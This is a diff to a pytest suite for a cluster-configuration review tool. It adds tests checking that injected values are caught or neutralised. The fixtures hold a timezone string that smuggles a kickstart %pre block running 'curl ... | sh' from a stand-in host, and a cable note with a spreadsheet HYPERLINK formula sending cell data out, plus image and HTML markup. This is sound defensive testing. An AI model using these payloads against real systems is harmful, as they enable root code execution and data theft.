@@ -4,14 +4,18 @@ A scratch git repository (in a temporary directory) holds this checkout's `clust
 base commit, and one commit per change a reviewer must see, each made on top of the base:
 a new rack, two re-patched cables, a moved server, an OFED bump for the canary ring, a
 renumbered address, a firmware baseline bump, an SM priority change, a comment-only edit, a
-YAML error and a failing check. Each is diffed against the base through the library, and
-some through the CLI (also in a shallow clone).
+YAML error, a failing check, a value that would inject a kickstart script and a cable note
+written to run in a reviewer's browser and spreadsheet. Each is diffed against the base
+through the library, and some through the CLI (also in a shallow clone).
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
+import re
 import shutil
 import subprocess
 from collections.abc import Callable
@@ -27,7 +31,7 @@ from compiler import diff, gitsource, load, pipeline
 from compiler.diff import DiffReport, RiskKind, Side
 from compiler.errors import SourceError
 from draw import review
-from tests.conftest import REPO
+from tests.conftest import REPO, require_tool
 
 # A scratch repository must not pick up the user's git config (signing, hooks, templates).
 GIT_ENV = {
@@ -286,6 +290,29 @@ def remove_rack(cluster: Path) -> None:
     (cluster / "racks" / "r25.yaml").unlink()
 
 
+def timezone_injection(cluster: Path) -> None:
+    # A free-text value that would write a root script into every kickstart.
+    hostile = "Etc/UTC\n%pre --interpreter=/bin/sh\ncurl -s http://203.0.113.9/x | sh\n%end\n#"
+    _edit(cluster, "site", lambda site: site.update(timezone=hostile))
+
+
+# A cable note written to reach a reviewer's browser and spreadsheet.
+HOSTILE_NOTE = (
+    '=HYPERLINK("http://203.0.113.9/?"&A1) ![x](https://203.0.113.9/t.png) '
+    "[click](https://203.0.113.9/) @admin <img src=x> `tick` | pipe"
+)
+
+
+def hostile_note(cluster: Path) -> None:
+    _edit(
+        cluster,
+        "fabric",
+        lambda fabric: fabric.update(
+            cables=[{"device": "leaf01", "port": 1, "note": HOSTILE_NOTE}]
+        ),
+    )
+
+
 CHANGES: dict[str, Callable[[Path], None]] = {
     "add-rack": add_rack,
     "repatch": repatch,
@@ -307,6 +334,8 @@ CHANGES: dict[str, Callable[[Path], None]] = {
     "remove-rack": remove_rack,
     "move-leaf-port": move_leaf_port,
     "move-spine-port": move_spine_port,
+    "timezone-injection": timezone_injection,
+    "hostile-note": hostile_note,
 }
 
 
@@ -389,7 +418,7 @@ def test_a_new_rack_adds_nodes_switches_cables_and_renumbers_nothing(
     assert "No existing address or LID renumbered." in markdown
     assert "| network | added | removed | changed |" in markdown
     mgmt = sum(a.network == "mgmt" for a in report.addresses)
-    assert f"| mgmt | {mgmt} | 0 | 0 |" in markdown
+    assert f"| `mgmt` | {mgmt} | 0 | 0 |" in markdown
     assert markdown.rstrip().endswith(f"clusterforge labels --rack {NEW_RACK}\n```")
     # Lines are added, none removed, except a zone's serial (it follows the content).
     families = {f.family: f for f in report.artifacts}
@@ -449,9 +478,14 @@ def test_an_ofed_bump_for_the_canary_ring_names_the_ring_and_its_nodes(
     assert change.hosts == members and ring.hosts == len(members)
     # A pin is not a baseline change, and no other ring is touched.
     assert report.firmware.baselines == report.firmware.software == ()
-    assert report.risks == ()
+    # The kickstarts of the ring's hosts say the version they must run: the lines are shown.
+    [risk] = report.risks
+    assert risk.kind == RiskKind.KICKSTART_CHANGED
+    old = canary.cluster.firmware.software["ofed"]
+    which = f"{members[0]}.ks and {len(members) - 1} more"
+    assert risk.items == (f'{which}: -OFED="{old}"', f'{which}: +OFED="{OFED}"')
     markdown = review.to_markdown(report)
-    assert f"| {ring.ring} | ofed |" in markdown
+    assert f"| `{ring.ring}` | `ofed` |" in markdown
 
 
 def test_a_renumbered_address_is_a_risk(sides: dict[str, Side]) -> None:
@@ -461,10 +495,12 @@ def test_a_renumbered_address_is_a_risk(sides: dict[str, Side]) -> None:
     assert (change.device, change.network) == (host, network)
     assert change.old is not None and change.new == f"{address}/24"
     assert change.old != change.new
-    assert kinds(report) == [RiskKind.ADDRESS_RENUMBERED]
+    assert kinds(report) == [RiskKind.ADDRESS_RENUMBERED, RiskKind.KICKSTART_CHANGED]
     assert not report.renumbered_nothing
     assert "No existing address or LID renumbered" not in review.to_markdown(report)
-    [risk] = report.risks
+    risk, kickstart = report.risks
+    assert {i.split(": ", 1)[0] for i in kickstart.items} == {f"{host}.ks"}
+    assert any(address in i and i.startswith(f"{host}.ks: +") for i in kickstart.items)
     assert risk.items == (f"{host} {network}: {change.old} → {change.new}",)
     # The node stayed where it was; the artifacts that hold addresses changed.
     assert report.nodes == diff.Devices()
@@ -485,7 +521,8 @@ def test_a_baseline_bump_reaches_every_ring_and_is_a_large_change(
     reached = {h for r in report.firmware.rings for c in r.changes for h in c.hosts}
     assert reached == {h.name for h in base.plan.hosts if h.model == "hgx-a100"}
     # A baseline bump is a rollout: it reaches every ring by its nature, so it is not large.
-    assert kinds(report) == []
+    # It changes the kickstarts' pinned versions, which is shown, as every kickstart change.
+    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]
     assert report.touched is not None and report.touched.host_kinds == {"versions": len(reached)}
     # Nor is a new rack, however small the limit: it adds and changes nothing there.
     assert RiskKind.LARGE_CHANGE not in kinds(compare(sides, "add-rack", share_limit=0.01))
@@ -520,6 +557,7 @@ def test_a_head_that_does_not_compile_lists_its_located_errors(sides: dict[str, 
     for tag, rule, where in (
         ("broken-yaml", "yaml-syntax", "cluster/racks/r03.yaml:"),
         ("duplicate-serial", "duplicate-serial", "cluster/racks/r01.yaml:"),
+        ("timezone-injection", "control-character", "cluster/site.yaml:"),
     ):
         report = compare(sides, tag)
         assert not report.compiles and report.base.compiles
@@ -556,8 +594,8 @@ def test_a_replaced_board_and_hca_show_old_and_new_identity(sides: dict[str, Sid
     assert report.identity.root_guids == diff.GuidSet()
     assert RiskKind.LARGE_CHANGE not in kinds(report)
     markdown = review.to_markdown(report)
-    assert f"| {host} | serial | {before.serial} | {serial} |" in markdown
-    assert f"| {host} | mac eno1 | {macs['eno1']} | {eno1} |" in markdown
+    assert f"| `{host}` | `serial` | `{before.serial}` | `{serial}` |" in markdown
+    assert f"| `{host}` | `mac eno1` | `{macs['eno1']}` | `{eno1}` |" in markdown
     assert f"LIDs: {report.identity.lids_kept} kept, 0 changed." in markdown
     data = json.loads(diff.to_json(report))
     assert {"device": host, "key": "serial", "old": before.serial, "new": serial} in data[
@@ -617,7 +655,7 @@ def test_renamed_nodes_read_as_renames_and_no_share_is_over_100_percent(
     assert {c.new.b.device for c in report.cables.changed} >= {
         n.replace("gpu", "gpx") for n in names
     }
-    assert f"| renamed | {names[0]} → {names[0].replace('gpu', 'gpx')} |" in review.to_markdown(
+    assert f"| renamed | `{names[0]} → {names[0].replace('gpu', 'gpx')}` |" in review.to_markdown(
         report
     )
 
@@ -628,9 +666,10 @@ def test_an_ofed_rollout_shows_its_window_and_is_not_large(sides: dict[str, Side
     assert base is not None
     was = base.cluster.firmware.software["ofed"]
     assert report.rollouts == (diff.RolloutChange("added", ("main",), {"ofed": was}, "2027-01-31"),)
-    assert kinds(report) == []
+    # Not large; the kickstarts' pinned OFED changes, which is shown as every kickstart change.
+    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]
     markdown = review.to_markdown(report)
-    assert f"| opened | main | ofed {was} | 2027-01-31 |" in markdown
+    assert f"| `opened` | `main` | `ofed {was}` | `2027-01-31` |" in markdown
 
 
 def test_imported_macs_are_identity_changes_not_a_large_change(sides: dict[str, Side]) -> None:
@@ -638,7 +677,8 @@ def test_imported_macs_are_identity_changes_not_a_large_change(sides: dict[str, 
     assert len(report.identity.devices) == 8
     assert {c.key for c in report.identity.devices} == {"mac eno1"}
     assert report.touched is not None and report.touched.host_kinds == {"identity": 8}
-    assert kinds(report) == []
+    # Not large; the kickstarts name the NIC by its MAC, a kickstart change, shown.
+    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]
 
 
 def test_the_parts_list_changes_as_parts_to_order_and_return(sides: dict[str, Side]) -> None:
@@ -839,14 +879,53 @@ def test_markdown_starts_with_the_marker_and_summary_and_fits_a_comment(
     assert short.startswith(review.MARKER) and "⚠️ **address-removed**" in short
 
 
+@pytest.mark.realtool
 def test_markdown_escapes_text_from_the_pull_request(sides: dict[str, Side]) -> None:
     base = _with_files(sides["base"], {"opensm/x.conf": "routing_engine ftree\n"})
     head = _with_files(
         sides["base"], {"opensm/x.conf": "routing_engine <b>x</b>|y ``` </details>\n"}
     )
     markdown = review.to_markdown(diff.diff(base, head))
-    assert "<b>" not in markdown and "&lt;/details&gt;" in markdown
-    assert markdown.count("<details>") == markdown.count("</details>")
+    # The file's text is a code span: a renderer shows the tags as text and closes no fold.
+    assert "| `routing_engine` | `ftree` | ````<b>x</b>\\|y ``` </details>```` |" in markdown
+    html = _gfm(markdown)
+    assert "<b>" not in html and "&lt;/details&gt;" in html
+    assert html.count("<details>") == html.count("</details>")
+
+
+def _gfm(markdown: str) -> str:
+    """HTML as GitHub renders a comment: cmark-gfm with the extensions GitHub enables."""
+    cmark = require_tool("cmark-gfm")
+    return subprocess.run(
+        [cmark, "-e", "table", "-e", "autolink", "-e", "tagfilter", "-e", "strikethrough"],
+        input=markdown,
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+
+
+@pytest.mark.realtool
+def test_a_cable_note_is_shown_as_code_not_rendered(sides: dict[str, Side]) -> None:
+    """GitHub's renderer (cmark-gfm, with the extensions GitHub enables) makes no image, link
+    or markup of a note; the mention stays inside code, where GitHub notifies no one."""
+    report = compare(sides, "hostile-note")
+    [changed] = report.cables.changed
+    assert [c.key for c in changed.changes] == ["note"]
+    html = _gfm(review.to_markdown(report))
+    assert "<img" not in html and "203.0.113.9" in html
+    assert '<a href="http' not in html and "<b>" not in html
+    [cell] = re.findall(r"<td><code>note: .*?</code></td>", html)
+    assert "@admin" in cell and "&lt;img src=x&gt;" in cell and "| pipe" in cell
+    assert html.count("@admin") == 1
+
+
+def test_a_formula_in_a_note_is_text_in_the_cable_schedule(sides: dict[str, Side]) -> None:
+    head = sides["hostile-note"].compiled
+    assert head is not None
+    rows = list(csv.DictReader(io.StringIO(head.files["fabric/cables.csv"].decode())))
+    [row] = [r for r in rows if r["note"]]
+    assert row["note"] == "'" + HOSTILE_NOTE  # OWASP: a leading quote, read as text
 
 
 # --- the command ----------------------------------------------------------------------------
@@ -892,7 +971,7 @@ def test_cli_prints_markdown_and_exits_0_with_changes(
 ) -> None:
     assert main(["-C", str(scratch), "diff", "base", "bios-bump", "--share-limit", "100"]) == 0
     out = capsys.readouterr().out
-    assert out.startswith(review.MARKER) and "| hgx-a100 | bios |" in out
+    assert out.startswith(review.MARKER) and "| `hgx-a100` | `bios` |" in out
     assert "large-change" not in out
     assert git(scratch, "status", "--porcelain") == ""
 
